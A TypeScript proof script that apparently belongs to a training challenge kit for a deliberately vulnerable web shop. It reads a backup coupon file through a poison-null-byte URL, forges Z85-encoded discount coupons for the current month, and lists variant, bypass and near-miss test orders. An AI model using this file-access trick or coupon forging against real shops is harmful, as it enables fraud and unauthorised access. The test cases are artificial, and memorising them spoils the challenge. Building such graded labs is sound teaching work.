import { addOrderDetails } from '@fruit/challenge-kit/order-details'
import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const ALPHABET = '0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ.-:+=^!/*?&<>()[]{}@%$#'
const MONTHS = ['JAN', 'FEB', 'MAR', 'APR', 'MAY', 'JUN', 'JUL', 'AUG', 'SEP', 'OCT', 'NOV', 'DEC'] as const

/** Encodes a text in Z85: four bytes become five characters. */
function z85(text: string): string {
  const groups = text.match(/[\s\S]{4}/g) ?? []
  return groups
    .map((group) => {
      let word = Buffer.from(group, 'latin1').readUInt32BE()
      let written = ''
      for (let place = 0; place < 5; place++) {
        written = ALPHABET[word % 85] + written
        word = Math.floor(word / 85)
      }
      return written
    })
    .join('')
}

/** Returns a month in the format of coupons. @param later months from now */
function monthOf(now: Date, later = 0): string {
  const month = new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() + later, 1))
  return `${MONTHS[month.getUTCMonth()]}${String(month.getUTCFullYear() % 100).padStart(2, '0')}`
}

/** Orders with a coupon code as a new customer. @param codeFor creates the code from the shop's current time */
const orderWith =
  (codeFor: (now: Date) => string): Attack =>
  async (attacker) => {
    const { basketId, orderDetails, now } = await fillBasket(attacker)
    await redeem(attacker, basketId, codeFor(now))
    await attacker.post(`/rest/basket/${basketId}/checkout`, { couponData: 'bnVsbA==', orderDetails })
  }

async function fillBasket(attacker: Attacker) {
  const { basketId } = await attacker.becomeCustomer()
  const orderDetails = await addOrderDetails(attacker)
  const { createdAt } = (
    await attacker.post('/api/BasketItems', { ProductId: 2, BasketId: basketId, quantity: 1 })
  ).json().data
  return { basketId, orderDetails, now: new Date(createdAt) }
}

const redeem = (attacker: Attacker, basketId: number, code: string) =>
  attacker.put(`/rest/basket/${basketId}/coupon/${encodeURIComponent(code)}`)

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // The file lists twelve Z85 codes, which decode to JAN13-10, FEB13-10 and so on.
    await attacker.get('/ftp/coupons_2013.md.bak%2500.md')
    await orderWith((now) => z85(`${monthOf(now)}-95`))(attacker)
  },
  spellings: {
    'exactly 80%': orderWith((now) => z85(`${monthOf(now)}-80`)),
    'as much as two digits can say': orderWith((now) => z85(`${monthOf(now)}-99`)),
    'with more text behind it': orderWith((now) => z85(`${monthOf(now)}-90 off`)),
    'with more text in front': orderWith((now) => z85(`THE ${monthOf(now)}-90`)),
    'after a lesser one': async (attacker) => {
      const { basketId, orderDetails, now } = await fillBasket(attacker)
      await redeem(attacker, basketId, z85(`${monthOf(now)}-10`))
      await redeem(attacker, basketId, z85(`${monthOf(now)}-85`))
      await attacker.post(`/rest/basket/${basketId}/checkout`, { orderDetails })
    },
  },
  nearMisses: {
    'an order without a coupon': orderWith(() => 'none'),
    'a coupon of 10%': orderWith((now) => z85(`${monthOf(now)}-10`)),
    'a coupon of 79%': orderWith((now) => z85(`${monthOf(now)}-79`)),
    'a coupon of last month': orderWith((now) => z85(`${monthOf(now, -1)}-90`)),
    'a coupon of next month': orderWith((now) => z85(`${monthOf(now, 1)}-90`)),
    'a coupon of this month, last year': orderWith((now) => z85(`${monthOf(now, -12)}-90`)),
    'the month in small letters': orderWith((now) => z85(`${monthOf(now).toLowerCase()}-90`)),
    'one of the codes of 2013': orderWith(() => 'n<MibgC7sn'),
    'the text as it is': orderWith((now) => `${monthOf(now)}-90`),
    'the text in Base64': orderWith((now) => Buffer.from(`${monthOf(now)}-90`).toString('base64')),
    'a coupon that was applied and never used': async (attacker) => {
      const { basketId, now } = await fillBasket(attacker)
      await redeem(attacker, basketId, z85(`${monthOf(now)}-90`))
    },
    'a coupon that another one replaced': async (attacker) => {
      const { basketId, orderDetails, now } = await fillBasket(attacker)
      await redeem(attacker, basketId, z85(`${monthOf(now)}-90`))
      await redeem(attacker, basketId, z85(`${monthOf(now)}-10`))
      await attacker.post(`/rest/basket/${basketId}/checkout`, { orderDetails })
    },
  },
  bypasses: { 'refuse-ninety-and-more': orderWith((now) => z85(`${monthOf(now)}-89`)) },
})
